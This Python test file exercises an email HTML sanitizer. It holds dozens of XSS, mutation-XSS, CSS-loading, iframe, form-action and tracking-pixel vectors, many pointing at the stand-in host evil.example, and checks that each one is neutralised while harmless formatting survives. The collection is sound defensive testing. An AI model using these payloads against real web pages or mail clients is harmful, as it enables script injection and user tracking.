"""HTML of mails made safe: nothing acts, nothing loads, nothing leads away, and what is harmless stays."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from mailsim.safe_html import (
    MAX_CHARACTERS,
    MAX_DEPTH,
    MAX_ELEMENTS,
    MAX_TARGETS,
    SafeHtml,
    Target,
    safe_html,
)

OUT = "外部の画像は表示しません"
PIXEL = "data:image/png;base64,iVBORw0KGgo="
ALLOWED_STARTS = ("data:image/png;base64,", "data:image/gif;base64,")

VECTORS = {
    "scripts": (
        "<script>alert(1)</script>",
        "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/x>alert(1)</script\t\n>",
        "<noscript><p title='</noscript><script>alert(1)</script>'>",
        "<template><script>alert(1)</script></template>",
        "\x00<scr\x00ipt>alert(1)</script>",
    ),
    "handlers": (
        "<img src=x onerror=alert(1)>",
        "<p onclick='alert(1)'>x</p>",
        "<a onmouseover=alert(1) href='https://x.example'>x</a>",
        "<body onload=alert(1)>x",
        "<details open ontoggle=alert(1)>x</details>",
        '<p title="a" onfocus="alert(1)" autofocus tabindex=1>x</p>',
        '<img src="`" `onerror=alert(1)">',
        "<video><source onerror=alert(1)></video>",
    ),
    "addresses": (
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
        "<a href=' \x01javascript:alert(1)'>x</a>",
        "<a href='java\nscript:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        "<a href='//evil.example/'>x</a>",
        "<a href='#' target=_top>x</a>",
        "<area href='javascript:alert(1)'>",
    ),
    "pictures": (
        "<img src='http://evil.example/pixel.gif'>",
        "<img src='//evil.example/pixel.gif'>",
        "<img srcset='http://evil.example/a 1x' src=''>",
        "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
        "<img src='data:image/png;base64,\" onerror=alert(1)'>",
        "<picture><source srcset='http://evil.example/x'><img src='x'></picture>",
        "<input type=image src='http://evil.example/x'>",
        "<img lowsrc='http://evil.example/x' dynsrc='http://evil.example/x'>",
        "<image href='http://evil.example/x'>",
        "<table background='http://evil.example/x'><tr><td background='http://evil.example/x'>x</table>",
    ),
    "styles": (
        "<style>@import 'http://evil.example/x.css'; body{background:url(http://evil.example/x)}</style>",
        "<link rel=stylesheet href='http://evil.example/x.css'>",
        "<p style='background:url(http://evil.example/x)'>x</p>",
        "<p style='background-color:u\\72l(http://evil.example/x)'>x</p>",
        "<p style='background-image:image-set(\"http://evil.example/x\" 1x)'>x</p>",
        "<p style='color:expression(alert(1))'>x</p>",
        "<p style='-moz-binding:url(http://evil.example/x)'>x</p>",
        "<p style='list-style:url(http://evil.example/x)'>x</p>",
        "<p style='position:fixed;inset:0;z-index:99;background-color:red'>x</p>",
        "<p style='margin-top:-5000px'>x</p>",
        "<p style='width:100%;width:calc(1px);cursor:url(x),auto;content:\"x\"'>x</p>",
        "<p style='color:var(--x);--x:red'>x</p>",
        "<p style='color:red/*'>x</p><p style='*/;position:fixed'>",
    ),
    "whole documents": (
        "<base href='http://evil.example/'><a href='/x'>x</a>",
        "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
        "<form action='http://evil.example/'><input name=password><button>x</button></form>",
        "<button formaction='http://evil.example/'>x</button>",
        "<iframe src='http://evil.example/'></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='http://evil.example/'></object><embed src='http://evil.example/'>",
        "<frameset><frame src='http://evil.example/'></frameset>",
        "<portal src='http://evil.example/'></portal>",
        "<audio src='http://evil.example/x' autoplay></audio>",
        "<dialog open>x</dialog><marquee>x</marquee>",
        "<!--[if mso]><script>alert(1)</script><![endif]-->",
        "<?xml-stylesheet href='http://evil.example/'?>",
    ),
    "foreign and mutating": (
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<svg><use href='http://evil.example/x#y'/></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
        "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
        "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<p title='&lt;img src=x onerror=alert(1)&gt;'>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<p/onclick=alert(1)//>x",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
    ),
}
ACTING = {"script", "style", "iframe", "object", "embed", "form", "input", "button", "textarea", "select", "svg", "math",
          "link", "meta", "base", "video", "audio", "source", "frame", "frameset", "template", "a", "body", "html"}  # fmt: skip


class Elements(HTMLParser):
    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.open: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in {"br", "hr", "img", "col"}:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag


def safe(page: str, **pictures: str) -> SafeHtml:
    return safe_html(page, pictures, OUT)


def must_be_harmless(shown: SafeHtml) -> None:
    told = Elements(shown.body)
    assert told.open == []
    for tag, attributes in told.found:
        assert tag not in ACTING
        assert not [name for name in attributes if name.startswith("on")]
        assert not attributes.keys() & {
            "href",
            "srcset",
            "background",
            "action",
            "formaction",
            "target",
            "srcdoc",
        }
        assert attributes.get("src", PIXEL).startswith(ALLOWED_STARTS)
        style = attributes.get("style", "")
        assert not [
            bad for bad in ("url", "(", "\\", "@", "position", "expression", "-5", "var") if bad in style
        ]


@pytest.mark.parametrize(
    "vector",
    [pytest.param(one, id=f"{kind}-{at}") for kind, many in VECTORS.items() for at, one in enumerate(many)],
)
def test_what_attacks_is_harmless(vector: str) -> None:
    must_be_harmless(safe(vector))
    must_be_harmless(safe(f"<table><tr><td><div><p>{vector}</p></div></td></tr></table>{vector}"))


def test_what_is_harmless_stays() -> None:
    page = (
        '<h1 style="color: #0b4656; font-size:20px">審査完了</h1><p>A &amp; B &lt;C&gt;<br>次</p>'
        '<table border="1" width="100%"><tr><td colspan="2" bgcolor="#eee" align="center">表</td></tr></table><ol start="3"><li>三</li></ol>'
        '<font color="red">赤</font><span style="background-color:rgb(255, 0, 0);padding:3px">x</span>'
    )
    body = safe(page).body
    for kept in ('style="color:#0b4656;font-size:20px"', "A &amp; B &lt;C&gt;<br>次", 'colspan="2"', 'bgcolor="#eee"',
                 '<ol start="3"><li>三</li></ol>', '<font color="red">', "background-color:rgb(255, 0, 0);padding:3px"):  # fmt: skip
        assert kept in body


def test_pictures_of_the_mail_are_shown_and_others_counted() -> None:
    shown = safe(
        '<img src="cid:logo" alt="印"><img src="cid:other"><img src="https://evil.example/x.gif" alt="広告">',
        logo=PIXEL,
    )
    assert f'<img src="{PIXEL}" alt="印">' in shown.body or f'<img alt="印" src="{PIXEL}">' in shown.body
    assert shown.left_out == 2
    assert f"{OUT}（広告）" in shown.body
    assert "evil.example" not in shown.body


def test_a_link_is_its_words_and_its_whole_target() -> None:
    shown = safe(
        '<a href="https://evil.example/?a=1&amp;b=2">https://bank.example/</a> <a href="https://x.example/">https://x.example/</a>'
    )
    assert (
        'https://bank.example/<span class="target">［https://evil.example/?a=1&amp;b=2］</span>' in shown.body
    )
    assert shown.body.count("https://x.example/") == 1
    assert shown.targets == (
        Target("https://bank.example/", "https://evil.example/?a=1&b=2"), Target("https://x.example/", "https://x.example/"),
    )  # fmt: skip


def test_pages_are_bounded() -> None:
    assert safe("あ" * (MAX_CHARACTERS + 1)).cut
    assert not safe("あ" * MAX_CHARACTERS).cut
    assert safe("<br>" * (MAX_ELEMENTS + 1)).body == "<br>" * MAX_ELEMENTS
    assert not safe("<br>" * MAX_ELEMENTS).cut
    assert len(safe("<a href=https://x.example/>x</a>" * (MAX_TARGETS + 50)).targets) == MAX_TARGETS
    deep = safe("<div>" * (MAX_DEPTH + 100) + "底")
    assert deep.body.count("<div>") == MAX_DEPTH
    assert "底" in deep.body
